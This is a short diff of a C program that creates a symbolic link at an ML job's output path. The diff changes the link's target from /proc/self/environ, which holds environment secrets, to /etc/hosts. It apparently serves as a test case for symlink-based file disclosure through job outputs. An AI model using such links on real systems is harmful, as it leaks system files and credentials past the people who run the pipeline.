@@ -4,5 +4,5 @@
 
 int main(void)
 {
-    return symlink("/proc/self/environ", "/opt/ml/output/predictions.csv");
+    return symlink("/etc/hosts", "/opt/ml/output/predictions.csv");
 }
